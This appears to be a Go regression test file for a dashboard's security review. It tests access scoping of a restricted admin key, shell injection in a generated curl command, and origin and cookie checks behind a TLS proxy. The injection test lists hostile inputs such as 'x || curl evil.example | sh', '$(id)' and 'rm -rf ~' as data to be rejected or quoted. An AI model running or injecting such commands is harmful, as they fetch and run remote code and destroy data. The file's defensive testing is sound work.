package dashboard_test

import (
	"context"
	"net/http"
	"net/url"
	"strings"
	"testing"

	"capsuled/internal/auth"
	"capsuled/internal/dashboard"
	"capsuled/internal/domain"
)

// The dashboard's regression tests of the second security review (issue 15),
// one per attack.

// Attack 3: an admin key limited to capsule a and namespace n1 used to read
// and change every capsule and namespace through the dashboard, and to create
// or revoke keys beyond its own access. Page by page, it now sees and acts
// on its own capsules, namespaces and keys only.
func TestAttackRestrictedAdminEscapesItsAllowLists(t *testing.T) {
	t.Parallel()
	fc := newFakeCapsules()
	ctx := context.Background()
	for _, n := range []string{"a", "b"} {
		if _, err := fc.CreateCapsule(ctx, n, "capsule "+n); err != nil {
			t.Fatal(err)
		}
		fc.items[n] = []domain.Item{{ID: "item_" + n, Capsule: n, FileName: n + ".txt", Status: domain.StatusReady}}
	}
	fm := &fakeMemory{mems: map[string][]domain.Memory{
		"n1": {{ID: "mem_1", Namespace: "n1", Kind: domain.MemoryNote, Content: "n1 note"}},
		"n2": {{ID: "mem_2", Namespace: "n2", Kind: domain.MemoryNote, Content: "n2 secret"}},
	}}
	b := setup(t, options{capsules: fc, memory: fm})
	_, limited, err := b.auth.CreateKey(ctx, auth.NewKey{Name: "limited", Scopes: []domain.Scope{domain.ScopeAdmin}, Capsules: []string{"a"}, Namespaces: []string{"n1"}})
	if err != nil {
		t.Fatal(err)
	}
	rootID := b.keyID(t, "root")
	br := b.browser(t)
	if p := br.signIn(limited); p.status != http.StatusSeeOther {
		t.Fatalf("sign in: %d", p.status)
	}
	tok := csrf(t, br.get("/dashboard/capsules"))

	forbidden := func(what string, p page) {
		t.Helper()
		if p.status != http.StatusForbidden {
			t.Errorf("%s: status %d, want 403", what, p.status)
		}
		for _, leak := range []string{"b.txt", "n2 secret", "capsule b"} {
			if strings.Contains(p.body, leak) {
				t.Errorf("%s: the page shows %q", what, leak)
			}
		}
	}
	// Capsules.
	if p := br.get("/dashboard/capsules"); !strings.Contains(p.body, `href="/dashboard/capsules/a"`) || strings.Contains(p.body, `href="/dashboard/capsules/b"`) {
		t.Errorf("capsule list: %d\n%s", p.status, p.body)
	}
	if p := br.get("/dashboard/capsules/a"); p.status != http.StatusOK || !strings.Contains(strings.ReplaceAll(p.body, "<wbr>", ""), "a.txt") {
		t.Errorf("own capsule: %d", p.status)
	}
	forbidden("capsule page", br.get("/dashboard/capsules/b"))
	forbidden("capsule delete page", br.get("/dashboard/capsules/b/delete"))
	forbidden("capsule delete", br.post("/dashboard/capsules/b/delete", url.Values{"csrf_token": {tok}}))
	forbidden("upload", upload(t, br, "/dashboard/capsules/b/items", tok, map[string]string{"x.txt": "x"}))
	forbidden("item delete page", br.get("/dashboard/capsules/b/items/item_b/delete"))
	forbidden("item delete", br.post("/dashboard/capsules/b/items/item_b/delete", url.Values{"csrf_token": {tok}}))
	forbidden("create capsule outside", br.post("/dashboard/capsules", url.Values{"csrf_token": {tok}, "name": {"c"}}))
	if _, ok := fc.capsules["b"]; !ok || len(fc.items["b"]) != 1 {
		t.Fatal("capsule b was changed")
	}
	if _, ok := fc.capsules["c"]; ok {
		t.Fatal("capsule c was created")
	}
	// Playground.
	p := br.get("/dashboard/playground")
	if !strings.Contains(p.body, `value="a"`) || strings.Contains(p.body, `value="b"`) {
		t.Errorf("playground capsule choice:\n%s", p.body)
	}
	p = br.get("/dashboard/playground?capsule=b&query=secret")
	forbidden("playground on another capsule", p)
	if strings.Contains(p.body, "curl -sS") {
		t.Error("playground on another capsule shows a curl command")
	}
	if p := br.get("/dashboard/playground?capsule=a&query=x"); p.status != http.StatusOK {
		t.Errorf("playground on its capsule: %d", p.status)
	}
	// Namespaces.
	if p := br.get("/dashboard/namespaces"); !strings.Contains(p.body, `href="/dashboard/namespaces/n1"`) || strings.Contains(p.body, "n2") {
		t.Errorf("namespace list:\n%s", p.body)
	}
	if p := br.get("/dashboard/namespaces/n1/export"); p.status != http.StatusOK || !strings.Contains(p.body, "n1 note") {
		t.Errorf("own export: %d", p.status)
	}
	forbidden("namespace page", br.get("/dashboard/namespaces/n2"))
	forbidden("namespace export", br.get("/dashboard/namespaces/n2/export"))
	forbidden("namespace delete page", br.get("/dashboard/namespaces/n2/delete"))
	forbidden("namespace delete", br.post("/dashboard/namespaces/n2/delete", url.Values{"csrf_token": {tok}}))
	forbidden("memory delete page", br.get("/dashboard/namespaces/n2/memories/mem_2/delete"))
	forbidden("memory delete", br.post("/dashboard/namespaces/n2/memories/mem_2/delete", url.Values{"csrf_token": {tok}}))
	if len(fm.mems["n2"]) != 1 {
		t.Fatal("namespace n2 was changed")
	}
	// Status: the figures count its own capsules and namespaces only.
	if p := br.get("/dashboard/status"); !strings.Contains(p.body, "Capsules") || strings.Contains(p.body, ">2<") {
		t.Errorf("status page counts other capsules or namespaces:\n%s", p.body)
	}
	// Keys: it sees only keys within its access, creates only such keys,
	// and can neither revoke nor mint for the unrestricted admin key.
	if p := br.get("/dashboard/keys"); strings.Contains(p.body, "root") || !strings.Contains(p.body, "limited") {
		t.Errorf("key list:\n%s", p.body)
	}
	for name, form := range map[string]url.Values{
		"unrestricted admin": {"name": {"wide"}, "scopes": {"admin"}},
		"other capsule":      {"name": {"wide"}, "scopes": {"chat"}, "capsules": {"b"}, "namespaces": {"n1"}},
		"all namespaces":     {"name": {"wide"}, "scopes": {"memory"}, "capsules": {"a"}},
	} {
		form.Set("csrf_token", tok)
		if p := br.post("/dashboard/keys", form); p.status != http.StatusForbidden {
			t.Errorf("create %s: %d", name, p.status)
		}
	}
	if p := br.post("/dashboard/keys", url.Values{"csrf_token": {tok}, "name": {"narrow"}, "scopes": {"chat"}, "capsules": {"a"}, "namespaces": {"n1"}}); p.status != http.StatusCreated {
		t.Errorf("create a key within its access: %d", p.status)
	}
	forbidden("revoke page of the root key", br.get("/dashboard/keys/"+rootID+"/revoke"))
	forbidden("revoke the root key", br.post("/dashboard/keys/"+rootID+"/revoke", url.Values{"csrf_token": {tok}}))
	forbidden("mint a token for the root key", br.post("/dashboard/tokens", url.Values{"csrf_token": {tok}, "key": {rootID}, "ttl_seconds": {"900"}}))
	if _, err := b.auth.Authenticate(ctx, b.admin); err != nil {
		t.Fatalf("the root key was revoked: %v", err)
	}
	keys, _ := b.auth.ListKeys(ctx)
	for _, k := range keys {
		if k.Name == "wide" {
			t.Fatalf("a wider key was created: %+v", k)
		}
	}
}

// Attack 6: the playground's curl box used to paste the capsule parameter
// unquoted into a shell line, for any capsule, existing or not.
func TestAttackPlaygroundCurlInjection(t *testing.T) {
	t.Parallel()
	fc := newFakeCapsules()
	if _, err := fc.CreateCapsule(context.Background(), "docs", ""); err != nil {
		t.Fatal(err)
	}
	b := setup(t, options{capsules: fc})
	br := b.browser(t)
	br.mustSignIn()
	for _, capsule := range []string{"x || curl evil.example | sh", "docs;id", "$(id)", "docs'", "`id`", "../keys"} {
		p := br.get("/dashboard/playground?query=x&capsule=" + url.QueryEscape(capsule))
		if p.status != http.StatusBadRequest || strings.Contains(p.body, "curl -sS") {
			t.Errorf("capsule %q: status %d (want 400, no curl command)", capsule, p.status)
		}
	}
	// Every value of the command is single-quoted: a query with quotes and
	// shell syntax stays inside the -d argument.
	p := br.get("/dashboard/playground?capsule=docs&query=" + url.QueryEscape(`it's $(id) && rm -rf ~ "x"`))
	if p.status != http.StatusOK {
		t.Fatalf("status %d", p.status)
	}
	want := `-d &#39;{&#34;query&#34;:&#34;it&#39;\&#39;&#39;s $(id) \u0026\u0026 rm -rf ~ \&#34;x\&#34;&#34;}&#39;`
	if !strings.Contains(p.body, want) {
		t.Errorf("the curl command does not quote the body as %s:\n%s", want, p.body)
	}
	if !strings.Contains(p.body, "curl -sS &#39;http://") {
		t.Errorf("the URL is not quoted")
	}
}

// Attack 5: behind a TLS-terminating proxy the dashboard refused its own form
// posts (it expected an http:// origin) and never set Secure cookies. With
// --public-url https://… it trusts that origin and marks cookies Secure; an
// https origin of the request's own host passes without it (the origin check
// is net/http's CrossOriginProtection); a foreign origin never passes.
func TestAttackDashboardBehindTLSProxy(t *testing.T) {
	t.Parallel()
	const public = "https://capsuled.example"
	b := setup(t, options{publicURL: public})
	br := b.browser(t)
	br.origin = public
	p := br.signIn(b.admin)
	if p.status != http.StatusSeeOther {
		t.Fatalf("sign-in from the public origin: %d", p.status)
	}
	c := cookie(p, "capsuled_session")
	if c == nil || !c.Secure || !c.HttpOnly || c.SameSite != http.SameSiteStrictMode {
		t.Fatalf("session cookie %+v: want Secure, HttpOnly, SameSite=Strict", c)
	}
	// A form post of the session from the public origin passes the origin
	// check (the cookie jar keeps Secure cookies from plain HTTP, so it is
	// sent by hand, as the browser on https would).
	post := func(origin, fetchSite string) int {
		t.Helper()
		get, _ := http.NewRequest(http.MethodGet, b.srv.URL+"/dashboard/keys", nil)
		get.AddCookie(c)
		tok := csrf(t, br.do(get))
		form := url.Values{"csrf_token": {tok}, "name": {"via proxy"}, "scopes": {"chat"}}
		req, _ := http.NewRequest(http.MethodPost, b.srv.URL+"/dashboard/keys", strings.NewReader(form.Encode()))
		req.Header.Set("Content-Type", "application/x-www-form-urlencoded")
		req.Header.Set("Origin", origin)
		if fetchSite != "" {
			req.Header.Set("Sec-Fetch-Site", fetchSite)
		}
		req.AddCookie(c)
		return br.do(req).status
	}
	if s := post(public, ""); s != http.StatusCreated {
		t.Errorf("form post from the public origin: %d", s)
	}
	if s := post("https://evil.example", ""); s != http.StatusForbidden {
		t.Errorf("form post from a foreign origin: %d", s)
	}
	if s := post("https://evil.example", "cross-site"); s != http.StatusForbidden {
		t.Errorf("cross-site form post: %d", s)
	}

	// Without --public-url: an https origin of the request's host passes
	// (a proxy that keeps the Host header), cookies on plain HTTP are not
	// Secure.
	b2 := setup(t, options{})
	br2 := b2.browser(t)
	br2.origin = "https://" + strings.TrimPrefix(b2.srv.URL, "http://")
	p = br2.signIn(b2.admin)
	if p.status != http.StatusSeeOther {
		t.Fatalf("sign-in from https://<host>: %d", p.status)
	}
	if c := cookie(p, "capsuled_session"); c == nil || c.Secure {
		t.Fatalf("session cookie on plain HTTP without a public URL: %+v", c)
	}
	// A public URL that is not an origin is refused at start.
	for _, bad := range []string{"ftp://x", "https://x/path", "capsuled.example", "https://u:p@x"} {
		if _, err := dashboard.ParsePublicURL(bad); err == nil {
			t.Errorf("public URL %q accepted", bad)
		}
	}
}
